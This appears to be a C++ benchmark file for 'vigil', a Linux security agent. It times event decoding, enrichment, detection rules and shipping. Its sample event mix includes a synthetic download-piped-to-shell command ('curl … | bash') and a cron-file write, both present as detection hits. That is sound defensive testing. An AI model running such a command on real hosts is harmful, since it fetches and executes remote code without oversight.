// Per-event user-space cost: decode, enrich, indicators, JSON. Kernel-free.
//   build/tests/bench/vigil_bench --benchmark_repetitions=5 --benchmark_report_aggregates_only=true
#include <benchmark/benchmark.h>

#include <chrono>
#include <filesystem>
#include <thread>

#include "bench_allocs.h"
#include "util/records.h"
#include "util/test_util.h"
#include "vigil/agent/pipeline.h"
#include "vigil/agent/rules.h"
#include "vigil/agent/shipper.h"
#include "vigil/agent/spool.h"
#include "vigil/agent/wire.h"
#include "vigil/event_format.h"

namespace {

using namespace vigil;
using namespace vigil::agent;

const std::vector<std::byte>& exec_record() {
  static const auto rec = test::bytes_of(
      test::make_exec(4242, "/usr/bin/env", {"/usr/bin/env", "true", "--flag", "value"}));
  return rec;
}

void BM_Decode(benchmark::State& state) {
  Decoder d;
  Event e;
  const test::AllocsPerIteration allocs(state);
  for (auto _ : state) {
    auto r = d.decode(exec_record(), e);
    benchmark::DoNotOptimize(r);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_Decode);

void BM_DecodeEnrich(benchmark::State& state) {
  Decoder d;
  Event e;
  ProcessTable table(65536, "");
  const test::AllocsPerIteration allocs(state);
  for (auto _ : state) {
    (void)d.decode(exec_record(), e);
    table.apply(e);
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_DecodeEnrich);

void BM_Json(benchmark::State& state) {
  Decoder d;
  Event e;
  (void)d.decode(exec_record(), e);
  std::string out;
  const test::AllocsPerIteration allocs(state);
  for (auto _ : state) {
    out.clear();
    append_json(e, out);
    benchmark::DoNotOptimize(out.data());
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_Json);

void BM_Indicators(benchmark::State& state) {
  Decoder d;
  Event e;
  (void)d.decode(exec_record(), e);
  ProcessTable table(16, "");
  IndicatorEngine engine;
  std::vector<const Indicator*> hits;
  const test::AllocsPerIteration allocs(state);
  for (auto _ : state) {
    engine.evaluate(e, table, hits);
    benchmark::DoNotOptimize(hits.data());
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_Indicators);

// A few drains first, so "allocs" counts the steady state, not the buffers'
// first growth (the drain's event slots, the JSON line).
void warm_up(Pipeline& p) {
  for (int i = 0; i < 4 * 256; ++i) {
    p.on_record(exec_record());
    if (i % 256 == 255) {
      p.on_batch_end();
    }
  }
}

// Feeds the exec record, ending a drain every 256 records as the agent does
// (it flushes once per ring buffer drain), after a warm-up.
void run_drains(benchmark::State& state, Pipeline& p) {
  warm_up(p);
  std::int64_t n = 0;
  const test::AllocsPerIteration allocs(state);
  for (auto _ : state) {
    p.on_record(exec_record());
    if (++n % 256 == 0) {
      p.on_batch_end();
    }
  }
  state.SetItemsProcessed(state.iterations());
}

// The whole per-record path as the agent runs it, JSON written to /dev/null.
void BM_PipelineToDevNull(benchmark::State& state) {
  ProcessTable table(65536, "");
  Pipeline p("bench-host", table, 0);
  auto sink = LineSink::open("/dev/null");
  if (!sink) {
    state.SkipWithError("cannot open /dev/null");
    return;
  }
  p.set_events(std::make_unique<EventWriter>(std::move(*sink), OutputFormat::kJson));
  run_drains(state, p);
}
BENCHMARK(BM_PipelineToDevNull);

// What every event costs before any output: decode, enrich, indicators,
// features and the model (issue 8: <= 1 us, no allocation).
void BM_PipelineScoreOnly(benchmark::State& state) {
  ProcessTable table(65536, "");
  Pipeline p("bench-host", table, 0);
  run_drains(state, p);
}
BENCHMARK(BM_PipelineScoreOnly);

// The event mix of a busy build/web host's drain: ordinary execs of many
// programs, changes in watched places, connects; 2 of 16 match a rule of
// vigil's pack (a download piped to a shell, a cron file).
const std::vector<std::vector<std::byte>>& mixed_records() {
  using test::bytes_of;
  using test::make_connect;
  using test::make_exec;
  using test::make_file;
  static const std::vector<std::vector<std::byte>> recs = {
      bytes_of(make_exec(5001, "/usr/bin/git", {"git", "status", "--short"})),
      bytes_of(make_exec(5002, "/usr/bin/gcc", {"gcc", "-O2", "-c", "main.c", "-o", "main.o"})),
      bytes_of(make_exec(5003, "/usr/bin/ls", {"ls", "-la", "/var/log"})),
      bytes_of(make_file(5002, VIGIL_FILE_CREATE, "/home/dev/src/main.o", "gcc")),
      bytes_of(make_exec(5004, "/usr/bin/python3", {"python3", "manage.py", "runserver"})),
      bytes_of(make_connect(5004, {10, 0, 0, 7}, 5432, "python3")),
      bytes_of(make_exec(5005, "/usr/bin/grep", {"grep", "-r", "TODO", "src/"})),
      bytes_of(make_exec(5006, "/usr/bin/bash",
                         {"bash", "-c", "curl -s http://10.0.0.9/x.sh | bash"})),  // hit
      bytes_of(make_exec(5007, "/usr/bin/systemctl", {"systemctl", "status", "nginx"})),
      bytes_of(make_file(5008, VIGIL_FILE_WRITE, "/etc/nginx/nginx.conf", "vim")),
      bytes_of(make_exec(5009, "/usr/bin/make", {"make", "-j2", "all"})),
      bytes_of(make_connect(5010, {10, 0, 0, 8}, 443, "curl")),
      bytes_of(make_exec(5011, "/usr/bin/cat", {"cat", "/proc/cpuinfo"})),
      bytes_of(make_file(5012, VIGIL_FILE_CREATE, "/etc/cron.d/backup", "bash")),  // hit
      bytes_of(make_exec(5013, "/usr/sbin/nginx", {"nginx", "-s", "reload"})),
      bytes_of(make_exec(5014, "/usr/bin/tar", {"tar", "czf", "backup.tgz", "/srv/www"})),
  };
  return recs;
}

// Which rules the pipeline runs: 0 none, 1 vigil's pack (the default), 2
// vigil's pack and every SigmaHQ Linux rule (../shared/sigma, when present),
// 3 the SigmaHQ rules alone.
std::shared_ptr<const RulePack> bench_rules(std::int64_t which, benchmark::State& state) {
  if (which == 0) {
    return nullptr;
  }
  RulePackOptions o;
  o.builtin = which != 3;
  if (which >= 2) {
    const std::filesystem::path root = VIGIL_SIGMAHQ_DIR;
    std::error_code ec;
    if (!std::filesystem::is_directory(root / "rules", ec)) {
      state.SkipWithError("no SigmaHQ snapshot at ../shared/sigma");
      return nullptr;
    }
    o.dirs = {root / "rules", root / "rules-emerging-threats", root / "rules-threat-hunting"};
  }
  sigma::LoadReport report;
  auto pack = RulePack::load(o, report);
  state.counters["rules"] = static_cast<double>(pack ? pack->size() : 0);
  return pack;
}

// Decode, enrich, indicators, rules, features and the model over the mix.
// Arg(2) - Arg(1) is what the SigmaHQ set adds to a default agent, Arg(3) -
// Arg(0) what it costs alone (issue 17: <= 1 us per event, no allocation).
void BM_PipelineMixRules(benchmark::State& state) {
  ProcessTable table(65536, "");
  Pipeline p("bench-host", table, 0);
  p.set_rules(bench_rules(state.range(0), state));
  if (state.range(0) >= 2 && !p.rules()) {
    return;
  }
  const auto& recs = mixed_records();
  for (int i = 0; i < 4 * 256; ++i) {
    p.on_record(recs[i % recs.size()]);
    if (i % 256 == 255) {
      p.on_batch_end();
    }
  }
  std::uint64_t before = 0;
  if (const auto& rules = p.rules()) {
    for (const auto& [info, counters] : rules->rules().rules()) {
      before += counters->evaluations.load();
    }
  }
  {
    std::size_t n = 0;
    const test::AllocsPerIteration allocs(state);
    for (auto _ : state) {
      p.on_record(recs[n % recs.size()]);
      if (++n % 256 == 0) {
        p.on_batch_end();
      }
    }
  }
  state.SetItemsProcessed(state.iterations());
  if (const auto& rules = p.rules()) {
    // Rules evaluated per event: those the index did not rule out.
    std::uint64_t evaluated = 0;
    for (const auto& [info, counters] : rules->rules().rules()) {
      evaluated += counters->evaluations.load();
    }
    state.counters["evaluated"] = benchmark::Counter(static_cast<double>(evaluated - before),
                                                     benchmark::Counter::kAvgIterations);
  }
}
BENCHMARK(BM_PipelineMixRules)->ArgName("rules")->Arg(0)->Arg(1)->Arg(2)->Arg(3);

// What shipping costs the ring-buffer thread per event: the conversion to
// protobuf and Shipper::add, whose flush every batch_max (1000) events either
// appends to the spool right there (writer:0, what the agent loop did before
// 2026-12-08) or hands the batch to the spool writer thread (writer:1). The
// writer's own work, and the ack that keeps the spool small, run with the
// timer paused: the figure is the agent loop's share only.
void BM_ShipAdd(benchmark::State& state) {
  test::TempDir dir;
  auto spool = Spool::open(dir.path());
  if (!spool) {
    state.SkipWithError(spool.error().message.c_str());
    return;
  }
  ShipperOptions o;
  o.collector = "127.0.0.1:1";  // never connects: nothing is read or sent
  o.batch_max = 1000;
  o.backoff_min = std::chrono::milliseconds(1000);
  Shipper shipper(o, **spool, v1::Hello{});
  if (state.range(0) != 0) {
    shipper.start();
  }
  Decoder d;
  Event e;
  (void)d.decode(exec_record(), e);
  std::size_t n = 0;
  for (auto _ : state) {
    v1::Event ev;
    to_proto(e, 0, {}, "", ev);
    shipper.add(std::move(ev));
    if (++n % o.batch_max == 0) {
      state.PauseTiming();
      while (shipper.stats().handoff_queued != 0) {
        std::this_thread::sleep_for(std::chrono::microseconds(50));
      }
      (void)(*spool)->ack((*spool)->stats().next_seq - 1);
      state.ResumeTiming();
    }
  }
  state.SetItemsProcessed(state.iterations());
  state.counters["full"] = static_cast<double>(shipper.stats().handoff_full);
  shipper.stop(std::chrono::milliseconds(0));
}
BENCHMARK(BM_ShipAdd)->ArgName("writer")->Arg(0)->Arg(1);

}  // namespace

BENCHMARK_MAIN();
